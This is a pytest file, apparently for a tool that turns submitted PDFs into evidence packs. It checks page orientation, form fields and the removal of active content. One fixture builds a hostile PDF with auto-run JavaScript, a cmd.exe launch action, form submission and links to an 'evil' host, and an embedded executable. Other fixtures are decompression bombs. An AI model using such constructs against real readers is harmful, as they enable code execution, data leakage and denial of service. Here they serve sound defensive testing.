"""Pages of somebody's PDF in the pack: as they are seen, in their place, and doing nothing."""

import json
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from pathlib import Path
from subprocess import run
from typing import Any

import pytest
from helpers.packs import drawn, evidence_pages, inked, pack_with
from helpers.pdf_files import document, packed, says, stream, written
from helpers.prints import reader, tool
from PIL.Image import Image
from pypdf import PdfWriter

from cpim_pdp.reports.pack import page_tree, weighing

CORNERS = b"0.86 0.1 0.1 rg %d %d 60 60 re f 0.1 0.2 0.86 rg %d %d 60 60 re f"
"""Red at the upper left, blue at the lower left of a page as it is seen unturned."""
RED, BLUE = (219, 26, 26), (26, 51, 219)


def page_of(data: bytes, folder: Path) -> Image:
    """Return what is drawn of the one page of the only evidence of a pack."""
    pack = pack_with({"page.pdf": data}, folder)
    pages = evidence_pages(pack)
    assert "Exhibit 1, page 1 of 1" in pages[1]
    return drawn(pack, int(pages[1].split("Page ")[-1].split()[0]), folder)


def cover(data: bytes, folder: Path, name: str = "file.pdf") -> str:
    """Return the cover of the only evidence of a pack."""
    return evidence_pages(pack_with({name: data}, folder))[0]


def near(found: object, wanted: tuple[int, ...]) -> bool:
    assert isinstance(found, tuple)
    return all(abs(a - b) < 20 for a, b in zip(found, wanted, strict=True))


# As they are seen


@pytest.mark.parametrize(
    ("turn", "red", "blue"),
    [
        (0, ("left", "top"), ("left", "bottom")),
        (90, ("right", "top"), ("left", "top")),
        (180, ("right", "bottom"), ("right", "top")),
        (270, ("left", "bottom"), ("right", "bottom")),
        (-90, ("left", "bottom"), ("right", "bottom")),
        (450, ("right", "top"), ("left", "top")),
        (45, ("left", "top"), ("left", "bottom")),
    ],
)
def test_a_turned_page_is_upright(
    turn: int, red: tuple[str, str], blue: tuple[str, str], tmp_path: Path
) -> None:
    marks = CORNERS % (100, 540, 100, 200) + b" 0.9 0.8 0.2 rg 340 200 60 60 re f"
    box = b"/MediaBox [0 0 612 792] /CropBox [100 200 400 600] /Rotate %d" % turn
    page = page_of(document(marks, page=box), tmp_path)
    left, top, right, bottom = inked(page)
    at = {"left": left + 8, "right": right - 8, "top": top + 8, "bottom": bottom - 8}

    assert (page.width > page.height) == (turn % 180 == 90)
    assert near(page.getpixel((at[red[0]], at[red[1]])), RED)
    assert near(page.getpixel((at[blue[0]], at[blue[1]])), BLUE)


@pytest.mark.parametrize(
    ("box", "wanted"),
    [
        (b"/MediaBox [0 0 300 200]", (300, 200)),
        (b"/MediaBox [-100 -200 200 0]", (300, 200)),
        (b"/MediaBox [200 0 -100 -200]", (300, 200)),
        (b"/MediaBox [-100 -200 200 0] /CropBox [-100 -100 900 900]", (300, 100)),
        (b"/MediaBox [-100 -200 200 0] /CropBox [5000 5000 6000 6000]", (300, 200)),
        (b"/MediaBox [-100 -200 200 0] /UserUnit 1.5", (450, 300)),
        (b"/MediaBox [-100 -200 200 0] /UserUnit (no)", (300, 200)),
    ],
)
def test_the_box_is_the_one_that_a_viewer_shows(
    box: bytes, wanted: tuple[int, int], tmp_path: Path
) -> None:
    everywhere = b"0.86 0.1 0.1 rg -9000 -9000 18000 18000 re f"
    left, top, right, bottom = inked(page_of(document(everywhere, page=box), tmp_path))

    assert (right - left, bottom - top) == pytest.approx(wanted, abs=3)


@pytest.mark.parametrize("box", [b"", b"/MediaBox [0 0 0 0]", b"/MediaBox [1 2]", b"/MediaBox 7"])
def test_a_page_without_a_box_is_as_large_as_letter(box: bytes, tmp_path: Path) -> None:
    everywhere = b"0.86 0.1 0.1 rg -9000 -9000 18000 18000 re f"
    left, top, right, bottom = inked(page_of(document(everywhere, page=box), tmp_path))

    assert (right - left) / (bottom - top) == pytest.approx(612 / 792, abs=0.02)


def test_nothing_of_a_huge_page_is_below_the_line_or_the_foot(tmp_path: Path) -> None:
    everywhere = b"0.86 0.1 0.1 rg 0 0 14400 14400 re f"
    page = page_of(document(everywhere, page=b"/MediaBox [0 0 14400 14400]"), tmp_path)
    left, top, right, bottom = inked(page)

    assert left >= 27
    assert page.width - right >= 27
    assert top >= 40
    assert page.height - bottom >= 50


def test_a_tiny_page_keeps_its_size(tmp_path: Path) -> None:
    small = document(b"0.86 0.1 0.1 rg 0 0 20 10 re f", page=b"/MediaBox [0 0 20 10]")
    left, top, right, bottom = inked(page_of(small, tmp_path))

    assert (right - left, bottom - top) == pytest.approx((20, 10), abs=2)


def test_content_in_parts_that_break_a_word_is_whole(tmp_path: Path) -> None:
    parts = (b"BT /F1 24 Tf 72 700 Td (In", b" parts) Tj ET", b"q q Q")
    pages = evidence_pages(pack_with({"a.pdf": document(parts)}, tmp_path))

    assert "In parts" in pages[1].replace("\n", " ")


def test_restoring_what_was_not_saved_does_not_move_the_rest(tmp_path: Path) -> None:
    data = document(b"Q Q 0.86 0.1 0.1 rg 0 0 612 792 re f")
    left, top, right, bottom = inked(page_of(data, tmp_path))

    assert (right - left) / (bottom - top) == pytest.approx(612 / 792, abs=0.02)


def test_pages_inherit_from_the_tree(tmp_path: Path) -> None:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 300 200] /Resources 5 0 R"
        b" /Rotate 90 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /Contents 6 0 R >>",
        5: b"<< /Font << /F1 7 0 R >> >>",
        6: packed(says("Inherited", 20, 100) + b" 0.86 0.1 0.1 rg 0 0 300 200 re f"),
        7: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    left, top, right, bottom = inked(page_of(written(objects), tmp_path))

    assert (right - left, bottom - top) == pytest.approx((200, 300), abs=3)


def test_layers_that_are_not_seen_stay_so(tmp_path: Path) -> None:
    red, blue = (b"/OC /%b BDC %b rg 0 0 612 792 re f EMC " % one for one in LAYERS)
    data = document(
        red + blue,
        catalog=b"/OCProperties << /OCGs [20 0 R 21 0 R] /D << /OFF [21 0 R] >> >>",
        resources=b"/Properties << /L1 20 0 R /L2 21 0 R >>",
        more={20: b"<< /Type /OCG /Name (a) >>", 21: b"<< /Type /OCG /Name (b) >>"},
    )
    page = page_of(data, tmp_path)

    assert near(page.getpixel((page.width // 2, page.height // 2)), RED)


LAYERS = [(b"L1", b"0.86 0.1 0.1"), (b"L2", b"0.1 0.2 0.86")]


# Forms


LOOK = stream(
    b"BT /F1 12 Tf 2 4 Td (Ana Souza) Tj ET",
    b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 9 0 R >> >>",
)


def form(*fields: bytes, catalog: bytes = b"/Fields []", more: dict[int, bytes]) -> bytes:
    return document(
        page=b"/MediaBox [0 0 612 792] /Annots [%b]" % b" ".join(fields),
        catalog=b"/AcroForm << %b >>" % catalog,
        more=more,
    )


def test_what_stands_in_a_form_stays_in_sight(tmp_path: Path) -> None:
    fields = {
        20: b"<< /Type /Annot /Subtype /Widget /FT /Tx /V (Ana Souza) /Rect [72 600 300 620]"
        b" /AP << /N 30 0 R >> >>",
        21: b"<< /Type /Annot /Subtype /Widget /Parent 22 0 R /Rect [72 560 300 580] >>",
        22: b"<< /FT /Tx /V <FEFF0141006F0064007A> /Kids [21 0 R] >>",
        23: b"<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 8192 /V (secret) /Rect [9 9 99 30] >>",
        24: b"<< /Type /Annot /Subtype /Widget /FT /Tx /F 2 /V (hidden) /Rect [9 40 99 60] >>",
        25: b"<< /Type /Annot /Subtype /Widget /FT /Ch /V [(One) (Two)] /Rect [9 70 99 99] >>",
        30: LOOK,
    }
    data = form(*(b"%d 0 R" % one for one in fields if one not in (22, 30)), more=fields)
    first, page = evidence_pages(pack_with({"form.pdf": data}, tmp_path))

    assert all(text in page for text in ("Certificate", "Ana Souza", "Łodz", "One", "Two"))
    assert "secret" not in page
    assert "hidden" not in page
    assert "form fields, whose contents are printed" in first


def test_a_form_that_wants_its_fields_drawn_anew_shows_what_they_hold(tmp_path: Path) -> None:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /V (New) /Rect [72 600 300 620]"
    more = {20: field + b" /AP << /N 30 0 R >> >>", 30: LOOK}
    data = form(b"20 0 R", catalog=b"/Fields [] /NeedAppearances true", more=more)
    page = evidence_pages(pack_with({"form.pdf": data}, tmp_path))[1]

    assert "New" in page
    assert "Ana Souza" not in page


@pytest.mark.parametrize(("state", "is_seen"), [(b"/Yes", True), (b"/Off", False)])
def test_a_tick_is_there_or_not(state: bytes, is_seen: bool, tmp_path: Path) -> None:
    ticked = stream(b"0.86 0.1 0.1 rg 0 0 20 20 re f", b"/Subtype /Form /BBox [0 0 20 20]")
    box = b"<< /Type /Annot /Subtype /Widget /FT /Btn /AS %b /Rect [72 600 92 620]" % state
    looks = b" /AP << /N << /Yes 30 0 R /Off 31 0 R >> >> >>"
    empty = stream(b"", b"/Subtype /Form /BBox [0 0 20 20]")
    data = form(b"20 0 R", more={20: box + looks, 30: ticked, 31: empty})
    page = page_of(data, tmp_path)
    colours = {colour for _, colour in page.getcolors(1 << 20) or ()}

    assert any(near(one, RED) for one in colours) == is_seen


def test_a_signature_is_said_to_be_proved_by_the_original_alone(tmp_path: Path) -> None:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [9 9 99 30] /AP << /N 30 0 R >> >>"
    data = form(b"20 0 R", more={20: field, 30: LOOK})
    first, page = evidence_pages(pack_with({"signed.pdf": data}, tmp_path))

    assert "digital signatures, which only the original proves" in first
    assert "Ana Souza" in page


# Doing nothing


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HOSTILE = document(
    says("Certificate") + b" /X1 Do /X2 Do /X3 Do",
    catalog=b"/OpenAction 40 0 R /AA << /WC 40 0 R >> /URI << /Base (http://evil) >>"
    b" /Names << /JavaScript << /Names [(a) 40 0 R] >> /EmbeddedFiles << /Names [(b) 41 0 R] >> >>"
    b" /AcroForm << /Fields [20 0 R] /XFA [] >> /AF [41 0 R]",
    page=b"/MediaBox [0 0 612 792] /AA << /O 40 0 R >> /Annots [20 0 R 21 0 R 22 0 R 23 0 R 24 0 R"
    b" 25 0 R 26 0 R] /Metadata 43 0 R /PieceInfo << /X 40 0 R >>",
    resources=b"/Font << /F1 9 0 R >> /XObject << /X1 30 0 R /X2 31 0 R /X3 32 0 R >>"
    b" /Properties << /P1 << /Type /OCG /A 40 0 R >> /P2 40 0 R /P3 3 0 R /P4 41 0 R >>",
    more={
        20: b"<< /Type /Annot /Subtype /Widget /FT /Tx /V (Ana) /Rect [72 600 300 620]"
        b" /AP << /N 33 0 R >> /A << /S /SubmitForm /F (http://evil) >> /AA << /K 40 0 R >> >>",
        21: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>",
        22: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil/share)"
        b" /D [0 /Fit] >> >>",
        23: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil)>> >>",
        24: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",
        25: b"<< /Type /Annot /Subtype /FileAttachment /FS 41 0 R /Rect [0 0 9 9] >>",
        26: b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (x) >> >>",
        30: stream(
            b"",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>"
            b" /AA << /O 40 0 R >> /Metadata 43 0 R",
        ),
        31: stream(b"%!PS", b"/Type /XObject /Subtype /PS"),
        32: stream(
            b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /F (x) >> /F (http://evil)"
        ),
        33: stream(
            b"",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Properties"
            b" << /P 40 0 R >> >> /A 40 0 R",
        ),
        40: SCRIPT,
        41: b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 42 0 R >> >>",
        42: stream(b"MZ evil", b"/Type /EmbeddedFile"),
        43: stream(b"<x>metadata</x>", b"/Type /Metadata /Subtype /XML"),
    },
)
ACTIVE = {
    "/AA", "/AF", "/AcroForm", "/EF", "/EmbeddedFiles", "/JS", "/JavaScript", "/Launch", "/OPI",
    "/OpenAction", "/PieceInfo", "/Ref", "/RichMediaContent", "/URI", "/XFA",
}  # fmt: skip
ACTING = {
    "/Action", "/EmbeddedFile", "/FileAttachment", "/Filespec", "/GoToE", "/GoToR", "/ImportData",
    "/JavaScript", "/Launch", "/PS", "/Rendition", "/RichMedia", "/Screen", "/Sig", "/SubmitForm",
    "/URI", "/Widget",
}  # fmt: skip


def found_in(value: Any) -> set[str]:  # noqa: ANN401 - a JSON document
    """Return every name of a PDF as qpdf lists it: keys, and names that are values."""
    if isinstance(value, dict):
        return {key for key in value if key.startswith("/")}.union(*map(found_in, value.values()))
    if isinstance(value, list):
        return set().union(*map(found_in, value))
    return {value} if isinstance(value, str) and value.startswith("/") else set()


def names_in(data: bytes, folder: Path) -> set[str]:
    file = folder / "listed.pdf"
    file.write_bytes(data)
    command = [tool("qpdf"), "--json=2", "--json-key=qpdf", str(file)]
    done = run(command, capture_output=True, check=True)
    return found_in(json.loads(done.stdout))


def test_nothing_that_acts_comes_along(tmp_path: Path) -> None:
    assert ACTIVE - names_in(HOSTILE, tmp_path) <= {"/Launch"}
    pack = pack_with({"evil.pdf": HOSTILE}, tmp_path)
    found = names_in(pack, tmp_path)

    assert not found & ACTIVE
    assert not found & ACTING
    assert not [
        word for word in (b"evil.exe", b"http://evil", b"MZ evil", b"alert") if word in pack
    ]
    assert "Certificate" in evidence_pages(pack)[1]


def test_the_cover_says_what_did_not_come_along(tmp_path: Path) -> None:
    text = cover(HOSTILE, tmp_path)

    assert (
        "Not taken over from the file: programs and actions, links, form fields, whose contents are"
        " printed, attached files, sound, film and 3D." in text
    )


def test_of_a_plain_file_nothing_is_said_to_be_missing(tmp_path: Path) -> None:
    assert "Not taken over" not in cover(document(), tmp_path)


def test_only_links_of_our_own_are_in_the_pack(tmp_path: Path) -> None:
    opened = reader(pack_with({"evil.pdf": HOSTILE}, tmp_path))
    notes = [one.get_object() for page in opened.pages for one in page.get("/Annots", ())]

    assert notes
    assert {one["/Subtype"] for one in notes} == {"/Link"}
    assert all("/Dest" in one and "/A" not in one for one in notes)


def test_names_that_a_page_gave_its_things_are_no_actions(tmp_path: Path) -> None:
    """A font may be called JS: what it is decides, not what it is called."""
    data = document(
        b"BT /JS 24 Tf 72 700 Td (Named) Tj ET", resources=b"/Font << /JS 9 0 R /AA 9 0 R >>"
    )

    assert "Named" in evidence_pages(pack_with({"a.pdf": data}, tmp_path))[1]


# What has no pages


def encrypted(password: str, owner: str | None = None) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(document()))
    writer.encrypt(password, owner_password=owner, algorithm="RC4-128")
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


@cache
def zeros() -> bytes:
    """Return what unpacks to a little more than a stream may have."""
    packing, piece = zlib.compressobj(9), bytes(1_000_000)
    pieces = [packing.compress(piece) for _ in range(weighing.MOST_IN_STREAM // len(piece) + 1)]
    return b"".join(pieces) + packing.flush()


def with_image(data: bytes, filters: bytes, side: int = 9) -> bytes:
    kind = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"
    size = b" /Width %d /Height %d /Filter %b" % (side, side, filters)
    more = {20: stream(data, kind + size)}
    return document(resources=b"/XObject << /I 20 0 R >>", more=more)


def in_circles() -> bytes:
    pages = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"
    return written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: pages})


def nested() -> bytes:
    return written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"[" * 30_000})


def live_form() -> bytes:
    return document(catalog=b"/NeedsRendering true /AcroForm << /XFA [] /Fields [] >>")


LOCKED = "It is protected by a password or against changes"
DAMAGED = "It is damaged, or not what its name says"
LARGE = "It has too many pages, or unpacks to more than a program can be asked to show"
CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "locked": (lambda: encrypted("secret"), LOCKED),
    "locked against changes": (lambda: encrypted("", "owner"), LOCKED),
    "empty": (lambda: b"%PDF-1.4\n", DAMAGED),
    "cut": (lambda: document()[:400], DAMAGED),
    "something else": (lambda: b"%PDF-" + bytes(99), DAMAGED),
    "in circles": (in_circles, DAMAGED),
    "nested": (nested, DAMAGED),
    "a bomb": (lambda: with_image(zeros(), b"/FlateDecode"), LARGE),
    "a bomb in a bomb": (
        lambda: with_image(zlib.compress(zeros(), 9), b"[/FlateDecode /FlateDecode]"),
        LARGE,
    ),
    "vast": (lambda: with_image(b"x", b"/FlateDecode", 99_999), LARGE),
    "too many pages": (lambda: document(pages=page_tree.MOST_PAGES + 1), LARGE),
    "a live form": (live_form, "It is a form that draws its pages by a program (XFA)"),
}


@pytest.mark.parametrize("case", CASES)
def test_what_has_no_pages_says_why(case: str, tmp_path: Path) -> None:
    data, why = CASES[case]
    pages = evidence_pages(pack_with({"file.pdf": data()}, tmp_path))

    assert len(pages) == 1
    assert why in pages[0]
    assert "Original evidence/Exhibit 001 file.pdf" in pages[0]


def test_a_table_of_objects_that_is_wrong_is_put_right(tmp_path: Path) -> None:
    data = document(says("Repaired")).replace(b"startxref\n", b"startxref\n9")

    assert "Repaired" in evidence_pages(pack_with({"a.pdf": data}, tmp_path))[1]


def test_a_file_that_begins_with_something_else_is_a_pdf_all_the_same(tmp_path: Path) -> None:
    data = b"From: somebody\r\n\r\n" + document(says("Mailed"))

    assert "Mailed" in evidence_pages(pack_with({"a.pdf": data}, tmp_path))[1]
